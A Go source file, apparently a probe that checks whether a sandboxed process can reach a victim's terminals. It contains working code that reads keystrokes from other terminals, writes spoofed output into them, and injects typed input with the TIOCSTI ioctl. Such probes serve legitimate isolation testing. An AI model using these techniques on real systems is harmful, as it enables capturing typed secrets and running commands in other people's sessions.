package main

import (
	"errors"
	"fmt"
	"path/filepath"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// spoof is what the attacker types and writes.
const spoof = "spoofed"

// open opens a terminal without becoming its session and without waiting.
func open(path string, mode int) (int, error) {
	return unix.Open(path, mode|unix.O_NOCTTY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
}

// terminals are all that this program can name; none is its own.
func terminals(t *target) []string {
	found, _ := filepath.Glob("/dev/pts/[0-9]*")
	for _, pid := range append([]int{t.Victim}, t.Clients...) {
		for _, dir := range procs(pid) {
			found = append(found, dir+"/fd/0", dir+"/fd/1")
		}
	}
	return append(found, "/dev/console")
}

func standardInput(t *target) string {
	for _, dir := range procs(t.Victim) {
		if fd, err := open(dir+"/fd/0", unix.O_RDWR); err == nil {
			unix.Close(fd)
			return "opened"
		}
	}
	return ""
}

// keystrokes competes with a terminal's own program for what is typed. It tries
// again and again, since the user may only just have come.
func keystrokes(t *target) string {
	read := make(chan string)
	known := map[string]bool{}
	for end := time.Now().Add(2 * time.Second); ; {
		for _, path := range terminals(t) {
			if !known[path] && listenTo(path, read) {
				known[path] = true
				end = time.Now().Add(patience) // now it is a matter of time
			}
		}
		select {
		case keys := <-read:
			return keys
		case <-time.After(5 * time.Millisecond):
		}
		if time.Now().After(end) {
			return ""
		}
	}
}

// listenTo waits in line for what comes from a terminal: who reads without
// waiting gets nothing while another one waits.
func listenTo(path string, read chan<- string) bool {
	fd, err := open(path, unix.O_RDONLY)
	if err != nil {
		return false
	}
	_, notTerminal := unix.IoctlGetTermios(fd, unix.TCGETS)
	if errors.Join(notTerminal, unix.SetNonblock(fd, false)) != nil {
		unix.Close(fd)
		return false
	}
	go func() {
		b := make([]byte, 256)
		if n, _ := unix.Read(fd, b); n > 0 { // until this program ends
			read <- fmt.Sprintf("%s: %q", path, b[:n])
		}
	}()
	return true
}

func writeTerminals(t *target) string {
	written := ""
	for _, path := range terminals(t) {
		fd, err := open(path, unix.O_WRONLY)
		if err != nil {
			continue
		}
		if n, _ := unix.Write(fd, []byte("\r\n"+spoof+" output\r\n")); n > 0 {
			written = path
		}
		unix.Close(fd)
	}
	return written
}

func typeKeys(t *target) string {
	typed := ""
	for _, path := range terminals(t) {
		fd, err := open(path, unix.O_RDWR)
		if err != nil {
			continue
		}
		for _, c := range []byte(spoof + "\n") {
			if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno == 0 {
				typed = path
			}
		}
		unix.Close(fd)
	}
	return typed
}
